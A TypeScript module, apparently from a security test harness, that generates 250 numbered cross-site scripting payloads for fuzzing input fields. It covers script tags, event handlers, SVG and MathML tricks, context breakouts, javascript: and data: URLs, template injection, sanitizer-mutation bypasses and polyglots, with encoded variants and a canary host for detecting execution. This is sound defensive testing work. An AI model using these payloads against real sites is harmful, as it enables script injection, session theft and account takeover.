/** The address that a running payload would call: nothing listens there, so any request to it is a sign. */
export const CANARY = 'https://canary.invalid';

type Vector = (run: string, mark: string, site: string) => string;

/**
 * Ways in which text has become code in some application. `run` calls us, `mark` names the element it would
 * create, `site` is detected by what it would load.
 */
const VECTORS: Record<string, Vector[]> = {
  tags: [
    (run, mark) => `<script ${mark}>${run}</script>`,
    (_, mark, site) => `<script ${mark} src=${site}/a.js></script>`,
    (run, mark) => `<script type=module ${mark}>${run}</script>`,
    (_, mark, site) => `<script type=importmap ${mark}>{"imports":{"react":"${site}/a.js"}}</script>`,
    (run, mark) => `<script/x ${mark}>${run}</script>`,
    (run, mark) => `<scr<script>ipt ${mark}>${run}</scr</script>ipt>`,
    (_, mark, site) => `<iframe ${mark} src=${site}></iframe>`,
    (run, mark) => `<iframe ${mark} srcdoc="<script>parent.${run}</script>"></iframe>`,
    (_, mark, site) => `<object ${mark} data=${site}></object>`,
    (_, mark, site) => `<embed ${mark} src=${site}>`,
    (_, mark, site) => `<meta ${mark} http-equiv=refresh content="0;url=${site}">`,
    (_, mark, site) => `<base ${mark} href=${site}/>`,
    (_, mark, site) => `<link ${mark} rel=stylesheet href=${site}/a.css>`,
    (_, mark, site) => `<link ${mark} rel=modulepreload href=${site}/a.js>`,
    (_, mark, site) => `<form ${mark} action=${site}><input type=submit></form>`,
    (_, mark, site) => `<img ${mark} src=${site}/a.png>`,
    (_, mark, site) => `<img ${mark} srcset="${site}/a.png 2x">`,
    (run, mark) => `<template shadowrootmode=open><img ${mark} src=x onerror=${run}></template>`,
  ],
  events: [
    (run, mark) => `<img ${mark} src=x onerror=${run}>`,
    (run, mark) => `<img/${mark}/src=x/onerror=${run}>`,
    (run, mark) => `<img ${mark} src=\`x\` onerror=\`${run}\`>`,
    (run, mark) => `<body ${mark} onload=${run}>`,
    (run, mark) => `<input ${mark} autofocus onfocus=${run}>`,
    (run, mark) => `<select ${mark} autofocus onfocus=${run}></select>`,
    (run, mark) => `<textarea ${mark} autofocus onfocus=${run}></textarea>`,
    (run, mark) => `<details ${mark} open ontoggle=${run}>`,
    (run, mark) => `<marquee ${mark} onstart=${run}>`,
    (run, mark) => `<video ${mark}><source onerror=${run}></video>`,
    (run, mark) => `<audio ${mark} src=x onerror=${run}>`,
    (run, mark) => `<x ${mark} id=x tabindex=0 onfocus=${run}>`,
    (run, mark) => `<style ${mark} onload=${run}></style>`,
    (run, mark) => `<button ${mark} popover onbeforetoggle=${run}>`,
    (run, mark) => `<div ${mark} style="animation:a" onanimationstart=${run}>`,
  ],
  svgAndMath: [
    (run, mark) => `<svg ${mark} onload=${run}>`,
    (run, mark) => `<svg/${mark}/onload=${run}>`,
    (run, mark) => `<svg ${mark}><script>${run}</script></svg>`,
    (run, mark) => `<svg ${mark}><animate onbegin=${run} attributeName=x></svg>`,
    (run, mark) => `<svg ${mark}><a xlink:href="javascript:${run}"><text>a</text></a></svg>`,
    (_, mark) => `<svg ${mark}><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>`,
    (run, mark) => `<svg ${mark}><set attributeName=onmouseover to=${run}></svg>`,
    (run, mark) => `<svg ${mark}><foreignObject><body onload=${run}></foreignObject></svg>`,
    (run, mark) => `<math ${mark}><mi href="javascript:${run}">a</mi></math>`,
    (run, mark) => `<math ${mark}><a xlink:href=javascript:${run}>a</a></math>`,
  ],
  brokenOut: [
    (run, mark) => `"><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `'><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `" ${mark} autofocus onfocus=${run} x="`,
    (run, mark) => `' ${mark} autofocus onfocus=${run} x='`,
    (run, mark) => `\` ${mark} onmouseover=${run} x=\``,
    (run, mark) => `</title><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `</textarea><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `</style><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `</noscript><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `</option></select><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `</script><script ${mark}>${run}</script>`,
    (run, mark) => `--><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `]]><img ${mark} src=x onerror=${run}>`,
  ],
  scripts: [
    (run) => `";${run};//`,
    (run) => `';${run};//`,
    (run) => `\\";${run};//`,
    (run) => `\\';${run};//`,
    (run) => `"};${run};({"`,
    (run) => `\u2028${run}\u2028//`,
    (run) => `\u2029;${run};//`,
    (run) => `*/${run}/*`,
    (run) => `"-${run}-"`,
    (run) => `\\u0022;${run}//`,
    (run, mark) => `{"__html":"<img ${mark} src=x onerror=${run}>"}`,
    (run, mark) => `{"$$typeof":"react.element","type":"img","props":{"${mark}":1,"onError":"${run}"}}`,
    (run) => `{"__proto__":{"onerror":"${run}"}}`,
  ],
  addresses: [
    (run) => `javascript:${run}`,
    (run) => `JaVaScRiPt:${run}`,
    (run) => `&#106;avascript:${run}`,
    (run) => `&Tab;javascript&colon;${run}`,
    (run) => `javascript://%0a${run}`,
    (run) => `feed:javascript:${run}`,
    (run) => `vbscript:${run}`,
    (run) => `data:text/html,<script>${run}</script>`,
    (run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
    (run) => `data:image/svg+xml,<svg onload=${run}>`,
    (run) => `blob:javascript:${run}`,
    (_run, _mark, site) => `${site.slice(6)}/a.js`,
    (run, mark) => `<a ${mark} href="javascript:${run}">a</a>`,
    (run, mark) => `<a ${mark} href=javascript&colon;${run}>a</a>`,
    (run, mark) => `<button ${mark} formaction=javascript:${run}>a</button>`,
    (run) => `[a](javascript:${run})`,
    (run, mark) => `![a](x"${mark} onerror="${run})`,
  ],
  templates: [
    (run) => `{{constructor.constructor('${run}')()}}`,
    (run) => `{{_c.constructor('${run}')()}}`,
    (run) => `\${${run}}`,
    (run) => `#{${run}}`,
    (run) => `<%= ${run} %>`,
    (run) => `[[\${${run}}]]`,
    (run) => `@(${run})`,
    (run) => `*{${run}}`,
  ],
  styles: [
    (_, mark, site) => `<style ${mark}>@import '${site}/a.css';</style>`,
    (_, mark, site) => `<style ${mark}>*{background:url(${site}/a.png)}</style>`,
    (_, mark, site) => `<div ${mark} style="background:url(${site}/a.png)">`,
    (run, mark) => `<div ${mark} style="width:expression(${run})">`,
    (_run, _mark, site) => `red;background:url(${site}/a.png)`,
    (_run, _mark, site) => `}*{background:url(${site}/a.png)}`,
  ],
  mutations: [
    (run, mark) => `<noscript><p title="</noscript><img ${mark} src=x onerror=${run}>">`,
    (run, mark) => `<math><mtext><table><mglyph><style><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `<svg></p><style><a id="</style><img ${mark} src=x onerror=${run}>">`,
    (run, mark) => `<form><math><mtext></form><form><mglyph><style></math><img ${mark} src onerror=${run}>`,
    (run, mark) => `<!--><img ${mark} src=x onerror=${run}>-->`,
    (run, mark) => `<!-- --!><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `<![CDATA[><img ${mark} src=x onerror=${run}>]]>`,
    (run, mark) => `<?xml version="1.0"?><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `<!DOCTYPE x><img ${mark} src=x onerror=${run}>`,
    (run, mark) => `<plaintext/${mark}/onclick=${run}>`,
  ],
  polyglots: [
    (run, mark) =>
      `jaVasCript:/*-/*\`/*'/*"/**/(/* */oNcliCk=${run} )//</stYle/</titLe/</scRipt/--!><sVg/${mark}/oNloAd=${run}//>`,
    (run, mark) => `'"></title></textarea></script><svg ${mark} onload=${run}>`,
    (run, mark) => `';${run}//";${run}//--></script>"><img ${mark} src onerror=${run}>`,
    (run) => `=HYPERLINK("javascript:${run}","a")`,
  ],
};

const code = (character: string) => character.charCodeAt(0).toString(16).padStart(2, '0');

/** Spellings that a step in between might decode. */
const SPELLINGS: ((payload: string) => string)[] = [
  (payload) => payload.replace(/[<>"'`]/g, (found) => `&#x${code(found)};`),
  (payload) => payload.replace(/[<>"'`]/g, (found) => `%${code(found)}`),
  (payload) => payload.replace(/[<>"'`]/g, (found) => `\\u00${code(found)}`),
  (payload) => payload.replace(/[<>"'`]/g, (found) => `&amp;#${found.charCodeAt(0)};`),
  (payload) => payload.replace(/[<>"'`]/g, (found) => String.fromCharCode(found.charCodeAt(0) + 0xfee0)),
  (payload) => payload.replace(/<(\/?)([a-z]+)/g, (_, slash, tag) => `<${slash}${tag.toUpperCase()}`),
  (payload) => payload.replace(/[<>"'`]/g, (found) => `%25${code(found)}`),
];

export const MARK = 'data-xss';
export const CALL = '__ran';

const plain = Object.values(VECTORS).flat();
const spelt = (at: number) => SPELLINGS[at % SPELLINGS.length] ?? String;

/** Each class unchanged, then in other spellings: 250 in all, numbered. */
export const PAYLOADS: readonly string[] = Array.from({ length: 250 }, (_, number) => {
  const vector = plain[number % plain.length];
  const payload = vector?.(`${CALL}(${number})`, `${MARK}=${number}`, `${CANARY}/${number}`) ?? '';
  return number < plain.length ? payload : spelt(number)(payload);
});

/** As many payloads per text as fit, of at most `most` characters; longer ones are tried elsewhere. */
export function packed(most: number, separator: string): string[] {
  const texts: string[] = [];
  let text = '';
  for (const payload of PAYLOADS.filter(({ length }) => length <= most)) {
    const longer = text ? text + separator + payload : payload;
    if (longer.length <= most) text = longer;
    else {
      texts.push(text);
      text = payload;
    }
  }
  return [...texts, text];
}

/** A different payload each time for fields that take one, until all have been used. */
export function takeTurns(most: number): () => string {
  const fitting = PAYLOADS.filter(({ length }) => length <= most);
  let turn = 0;
  return () => fitting[(turn++ * 37) % fitting.length] ?? '';
}
